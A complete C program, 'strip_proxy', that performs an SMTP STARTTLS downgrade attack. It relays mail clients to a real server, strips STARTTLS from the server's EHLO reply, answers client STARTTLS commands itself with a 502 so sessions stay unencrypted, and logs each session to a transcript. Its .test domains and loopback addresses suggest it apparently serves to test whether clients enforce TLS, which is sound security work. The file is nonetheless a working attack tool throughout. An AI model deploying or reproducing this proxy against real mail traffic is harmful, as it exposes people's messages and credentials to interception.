/*
 * strip_proxy: an on-path STARTTLS stripper (the downgrade attack).
 *
 *   strip_proxy -l ADDR:PORT -f ADDR:PORT -t TRANSCRIPT [-T SECONDS]
 *
 * Accepts SMTP clients on -l and relays each to the real server at -f,
 * line by line, with two changes: the STARTTLS line is removed from every
 * multi-line 250 reply (the EHLO reply; the line before it becomes the
 * last one when needed), and a STARTTLS command is never forwarded but
 * answered by the proxy itself with "502 5.5.1 not supported" (in its
 * place among pipelined replies).  Everything else, message bodies
 * included, passes unchanged.
 *
 * TRANSCRIPT gets one line per event, prefixed with the session number:
 *   2 CONNECT from=127.0.0.1:41000 upstream=127.0.0.41:2525
 *   2 U>C: 250-starttls-mx1.good.test Hello ...
 *   2 STRIPPED: 250-STARTTLS
 *   2 C>U: MAIL FROM:<a@b.test>
 *   2 C: STARTTLS (answered here: 502 5.5.1 not supported)
 *   2 BODY bytes=1234
 *   2 CLOSE client|upstream|timeout|...
 * -T: idle seconds before a session is closed (default 60).  Exits with
 * status 0 on SIGTERM or SIGINT.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_SESS	16
#define BUF		8192
#define REPLY_MAX	65536
#define FIFO_MAX	128
#define LOCAL_502	"502 5.5.1 not supported\r\n"

struct pending {
	int	local;		/* 1: answered here (502); 0: upstream answers */
	int	is_data;	/* the command was DATA */
};

struct sess {
	int		cfd, ufd;
	unsigned	num;
	int		body;		/* client is sending a message body */
	int		wait_data;	/* DATA forwarded, its reply not seen */
	unsigned long	body_bytes;
	time_t		last;
	size_t		clen, ulen, rlen;
	char		cin[BUF];	/* from the client */
	char		uin[BUF];	/* from upstream */
	char		reply[REPLY_MAX]; /* the upstream reply being collected */
	struct pending	fifo[FIFO_MAX];
	int		fhead, fcount;
};

static volatile sig_atomic_t stopping;
static FILE *tr;
static int idle_secs = 60;
static unsigned next_num = 1;
static struct sockaddr_in upstream;
static char upstream_str[64];
static struct sess sessions[MAX_SESS];

static void
usage(void)
{
	fprintf(stderr,
	    "usage: strip_proxy -l ADDR:PORT -f UPSTREAM_ADDR:PORT -t TRANSCRIPT [-T IDLE_SECONDS]\n");
	exit(2);
}

static void
on_signal(int sig)
{
	(void)sig;
	stopping = 1;
}

static void
trace(const struct sess *s, const char *fmt, ...)
{
	va_list ap;

	fprintf(tr, "%u ", s->num);
	va_start(ap, fmt);
	vfprintf(tr, fmt, ap);
	va_end(ap);
	fputc('\n', tr);
	fflush(tr);
}

/* A line for the transcript, without its line end, control bytes escaped. */
static void
trace_line(const struct sess *s, const char *dir, const char *p, size_t n)
{
	char out[BUF * 4 + 1];
	size_t i, o = 0;

	while (n > 0 && (p[n - 1] == '\n' || p[n - 1] == '\r'))
		n--;
	for (i = 0; i < n && o + 5 < sizeof(out); i++) {
		unsigned char ch = (unsigned char)p[i];
		if (ch >= 0x20 && ch < 0x7f && ch != '\\')
			out[o++] = (char)ch;
		else
			o += (size_t)snprintf(out + o, sizeof(out) - o, "\\x%02x", ch);
	}
	out[o] = '\0';
	trace(s, "%s: %s", dir, out);
}

static int
parse_addr(const char *arg, struct sockaddr_in *sin)
{
	char host[64];
	const char *colon = strrchr(arg, ':');
	char *end;
	long port;

	if (colon == NULL || (size_t)(colon - arg) >= sizeof(host))
		return -1;
	memcpy(host, arg, (size_t)(colon - arg));
	host[colon - arg] = '\0';
	port = strtol(colon + 1, &end, 10);
	if (*end != '\0' || port < 1 || port > 65535)
		return -1;
	memset(sin, 0, sizeof(*sin));
	sin->sin_family = AF_INET;
	sin->sin_port = htons((unsigned short)port);
	if (inet_pton(AF_INET, host, &sin->sin_addr) != 1)
		return -1;
	return 0;
}

static int
send_all(int fd, const char *buf, size_t len)
{
	size_t off = 0;

	while (off < len) {
		ssize_t n = send(fd, buf + off, len - off, MSG_NOSIGNAL);
		if (n > 0) {
			off += (size_t)n;
			continue;
		}
		if (n < 0 && errno == EINTR)
			continue;
		if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) {
			struct pollfd p = { .fd = fd, .events = POLLOUT };
			if (poll(&p, 1, 10000) > 0)
				continue;
		}
		return -1;
	}
	return 0;
}

static void
end_session(struct sess *s, const char *why)
{
	trace(s, "CLOSE %s", why);
	if (s->cfd >= 0)
		close(s->cfd);
	if (s->ufd >= 0)
		close(s->ufd);
	s->cfd = s->ufd = -1;
}

static int
fifo_push(struct sess *s, int local, int is_data)
{
	struct pending *p;

	if (s->fcount == FIFO_MAX)
		return -1;
	p = &s->fifo[(s->fhead + s->fcount) % FIFO_MAX];
	p->local = local;
	p->is_data = is_data;
	s->fcount++;
	return 0;
}

/* Answer the locally handled commands now at the head of the queue. */
static int
flush_local(struct sess *s)
{
	while (s->fcount > 0 && s->fifo[s->fhead].local) {
		trace_line(s, "P>C", LOCAL_502, sizeof(LOCAL_502) - 1);
		if (send_all(s->cfd, LOCAL_502, sizeof(LOCAL_502) - 1) < 0)
			return -1;
		s->fhead = (s->fhead + 1) % FIFO_MAX;
		s->fcount--;
	}
	return 0;
}

static int
is_starttls_line(const char *p, size_t n)
{
	while (n > 0 && (p[n - 1] == '\n' || p[n - 1] == '\r' || p[n - 1] == ' '))
		n--;
	return n == 12 && (p[3] == '-' || p[3] == ' ') &&
	    strncasecmp(p + 4, "STARTTLS", 8) == 0;
}

/*
 * A complete upstream reply is in s->reply: strip STARTTLS from a 250
 * reply, send it on, and account for the command it answers.
 */
static int
reply_done(struct sess *s)
{
	char out[REPLY_MAX];
	const char *line[512];
	size_t len[512], o = 0;
	int nl = 0, i, keep = 0, code;
	const char *p = s->reply, *end = s->reply + s->rlen;

	while (p < end && nl < 512) {
		const char *e = memchr(p, '\n', (size_t)(end - p));
		size_t l = e ? (size_t)(e - p) + 1 : (size_t)(end - p);
		line[nl] = p;
		len[nl++] = l;
		p += l;
	}
	if (p < end)
		return -1;	/* more lines than any real reply has */
	code = atoi(s->reply);
	for (i = 0; i < nl; i++) {
		size_t l = len[i], body;
		if (code == 250 && nl > 1 && is_starttls_line(line[i], l)) {
			trace_line(s, "STRIPPED", line[i], l);
			continue;
		}
		keep++;
		trace_line(s, "U>C", line[i], l);
		/* Re-form the continuation marks after a removal. */
		body = l;
		while (body > 0 && (line[i][body - 1] == '\n' || line[i][body - 1] == '\r'))
			body--;
		if (o + body + 2 > sizeof(out))
			return -1;
		memcpy(out + o, line[i], body);
		if (body >= 4)
			out[o + 3] = '-';
		o += body;
		out[o++] = '\r';
		out[o++] = '\n';
	}
	/* The last kept line carries the final mark. */
	if (keep > 0) {
		size_t k = o - 2;
		while (k > 0 && out[k - 1] != '\n')
			k--;
		if (o - k >= 6)
			out[k + 3] = ' ';
	}
	s->rlen = 0;
	if (send_all(s->cfd, out, o) < 0)
		return -1;
	if (s->fcount > 0) {
		struct pending *pd = &s->fifo[s->fhead];
		if (!pd->local) {
			if (pd->is_data) {
				s->wait_data = 0;
				if (code == 354) {
					s->body = 1;
					s->body_bytes = 0;
				}
			}
			s->fhead = (s->fhead + 1) % FIFO_MAX;
			s->fcount--;
		}
	}
	return flush_local(s);
}

/* Lines from upstream. */
static int
from_upstream(struct sess *s)
{
	for (;;) {
		char *nl = memchr(s->uin, '\n', s->ulen);
		size_t n;

		if (nl == NULL)
			return s->ulen == sizeof(s->uin) ? -1 : 0;
		n = (size_t)(nl - s->uin) + 1;
		if (s->rlen + n > sizeof(s->reply))
			return -1;
		memcpy(s->reply + s->rlen, s->uin, n);
		s->rlen += n;
		memmove(s->uin, s->uin + n, s->ulen - n);
		s->ulen -= n;
		/* "NNN " or "NNN" alone ends a reply; "NNN-" continues it. */
		if (n < 4 || s->reply[s->rlen - n + 3] != '-') {
			if (reply_done(s) < 0)
				return -1;
		}
	}
}

/* Lines from the client. */
static int
from_client(struct sess *s)
{
	for (;;) {
		char *nl;
		size_t n;

		if (s->wait_data && !s->body)
			return 0;	/* nothing goes on before DATA's reply */
		nl = memchr(s->cin, '\n', s->clen);
		if (nl == NULL) {
			if (s->clen < sizeof(s->cin))
				return 0;
			if (!s->body)
				return -1;
			/* An over-long body line passes unchanged. */
			if (send_all(s->ufd, s->cin, s->clen) < 0)
				return -1;
			s->body_bytes += s->clen;
			s->clen = 0;
			return 0;
		}
		n = (size_t)(nl - s->cin) + 1;
		if (s->body) {
			if (send_all(s->ufd, s->cin, n) < 0)
				return -1;
			if ((n == 3 && memcmp(s->cin, ".\r\n", 3) == 0) ||
			    (n == 2 && memcmp(s->cin, ".\n", 2) == 0)) {
				trace(s, "BODY bytes=%lu", s->body_bytes);
				s->body = 0;
				if (fifo_push(s, 0, 0) < 0)
					return -1;
			} else {
				s->body_bytes += n;
			}
		} else {
			size_t l = n;
			while (l > 0 && (s->cin[l - 1] == '\n' || s->cin[l - 1] == '\r'))
				l--;
			if (l == 8 && strncasecmp(s->cin, "STARTTLS", 8) == 0) {
				trace(s, "C: STARTTLS (answered here: 502 5.5.1 not supported)");
				if (fifo_push(s, 1, 0) < 0 || flush_local(s) < 0)
					return -1;
			} else {
				int is_data = l == 4 && strncasecmp(s->cin, "DATA", 4) == 0;
				trace_line(s, "C>U", s->cin, n);
				if (send_all(s->ufd, s->cin, n) < 0 ||
				    fifo_push(s, 0, is_data) < 0)
					return -1;
				if (is_data)
					s->wait_data = 1;
			}
		}
		memmove(s->cin, s->cin + n, s->clen - n);
		s->clen -= n;
	}
}

static int
connect_upstream(void)
{
	struct pollfd p;
	int fd, err = 0;
	socklen_t el = sizeof(err);

	fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	if (connect(fd, (struct sockaddr *)&upstream, sizeof(upstream)) == 0)
		return fd;
	if (errno != EINPROGRESS) {
		close(fd);
		return -1;
	}
	p.fd = fd;
	p.events = POLLOUT;
	if (poll(&p, 1, 10000) != 1 ||
	    getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &el) < 0 || err != 0) {
		close(fd);
		return -1;
	}
	return fd;
}

static void
accept_one(int lfd)
{
	struct sockaddr_in peer;
	socklen_t pl = sizeof(peer);
	char a[INET_ADDRSTRLEN];
	struct sess *s = NULL;
	int fd, i;

	fd = accept4(lfd, (struct sockaddr *)&peer, &pl, SOCK_NONBLOCK | SOCK_CLOEXEC);
	if (fd < 0)
		return;
	for (i = 0; i < MAX_SESS; i++)
		if (sessions[i].cfd < 0) {
			s = &sessions[i];
			break;
		}
	if (s == NULL) {
		close(fd);
		return;
	}
	memset(s, 0, sizeof(*s));
	s->cfd = fd;
	s->num = next_num++;
	s->last = time(NULL);
	inet_ntop(AF_INET, &peer.sin_addr, a, sizeof(a));
	trace(s, "CONNECT from=%s:%u upstream=%s", a, ntohs(peer.sin_port), upstream_str);
	s->ufd = connect_upstream();
	if (s->ufd < 0) {
		static const char down[] = "421 4.3.0 upstream unreachable\r\n";
		trace(s, "UPSTREAM-FAILED %s", strerror(errno));
		if (send(fd, down, sizeof(down) - 1, MSG_NOSIGNAL) < 0) {
			/* closing anyway */
		}
		end_session(s, "upstream-unreachable");
		return;
	}
	fifo_push(s, 0, 0);	/* the greeting */
}

int
main(int argc, char **argv)
{
	struct sockaddr_in sin;
	const char *listen_arg = NULL, *fwd_arg = NULL, *tr_path = NULL;
	struct sigaction sa;
	int opt, lfd, one = 1, i;

	while ((opt = getopt(argc, argv, "l:f:t:T:h")) != -1) {
		switch (opt) {
		case 'l': listen_arg = optarg; break;
		case 'f': fwd_arg = optarg; break;
		case 't': tr_path = optarg; break;
		case 'T': idle_secs = atoi(optarg); break;
		default: usage();
		}
	}
	if (optind != argc || listen_arg == NULL || fwd_arg == NULL || tr_path == NULL ||
	    idle_secs < 1 || idle_secs > 3600)
		usage();
	if (parse_addr(listen_arg, &sin) < 0 || parse_addr(fwd_arg, &upstream) < 0) {
		fprintf(stderr, "strip_proxy: addresses are IPv4:PORT\n");
		return 2;
	}
	snprintf(upstream_str, sizeof(upstream_str), "%s", fwd_arg);
	tr = fopen(tr_path, "a");
	if (tr == NULL) {
		fprintf(stderr, "strip_proxy: %s: %s\n", tr_path, strerror(errno));
		return 1;
	}
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = on_signal;
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	signal(SIGPIPE, SIG_IGN);

	lfd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (lfd < 0 || setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) < 0 ||
	    bind(lfd, (struct sockaddr *)&sin, sizeof(sin)) < 0 || listen(lfd, 64) < 0) {
		fprintf(stderr, "strip_proxy: listen %s: %s\n", listen_arg, strerror(errno));
		return 1;
	}
	for (i = 0; i < MAX_SESS; i++)
		sessions[i].cfd = sessions[i].ufd = -1;
	fprintf(tr, "0 LISTEN %s upstream=%s\n", listen_arg, fwd_arg);
	fflush(tr);

	while (!stopping) {
		struct pollfd pfd[2 * MAX_SESS + 1];
		int who[2 * MAX_SESS + 1], np = 0, r;
		time_t now;

		pfd[np].fd = lfd;
		pfd[np].events = POLLIN;
		who[np++] = -1;
		for (i = 0; i < MAX_SESS; i++) {
			if (sessions[i].cfd < 0)
				continue;
			pfd[np].fd = sessions[i].cfd;
			pfd[np].events = POLLIN;
			who[np++] = 2 * i;
			pfd[np].fd = sessions[i].ufd;
			pfd[np].events = POLLIN;
			who[np++] = 2 * i + 1;
		}
		r = poll(pfd, (nfds_t)np, 500);
		if (r < 0 && errno != EINTR) {
			perror("strip_proxy: poll");
			return 1;
		}
		for (i = 0; r > 0 && i < np; i++) {
			struct sess *s;
			int up;
			ssize_t n;

			if (pfd[i].revents == 0)
				continue;
			if (who[i] < 0) {
				accept_one(lfd);
				continue;
			}
			s = &sessions[who[i] / 2];
			up = who[i] % 2;
			if (s->cfd < 0)
				continue;
			if (up)
				n = recv(s->ufd, s->uin + s->ulen, sizeof(s->uin) - s->ulen, 0);
			else
				n = recv(s->cfd, s->cin + s->clen, sizeof(s->cin) - s->clen, 0);
			if (n == 0) {
				end_session(s, up ? "upstream" : "client");
				continue;
			}
			if (n < 0) {
				if (errno != EAGAIN && errno != EINTR)
					end_session(s, up ? "upstream-error" : "client-error");
				continue;
			}
			s->last = time(NULL);
			if (up) {
				s->ulen += (size_t)n;
				if (from_upstream(s) < 0)
					end_session(s, "upstream-protocol");
			} else {
				s->clen += (size_t)n;
				if (from_client(s) < 0)
					end_session(s, "client-protocol");
			}
			/* A reply may have released commands held behind DATA. */
			if (s->cfd >= 0 && up && s->clen > 0 && from_client(s) < 0)
				end_session(s, "client-protocol");
		}
		now = time(NULL);
		for (i = 0; i < MAX_SESS; i++)
			if (sessions[i].cfd >= 0 && now - sessions[i].last >= idle_secs)
				end_session(&sessions[i], "timeout");
	}
	for (i = 0; i < MAX_SESS; i++)
		if (sessions[i].cfd >= 0)
			end_session(&sessions[i], "shutdown");
	close(lfd);
	fprintf(tr, "0 EXIT\n");
	fclose(tr);
	return 0;
}
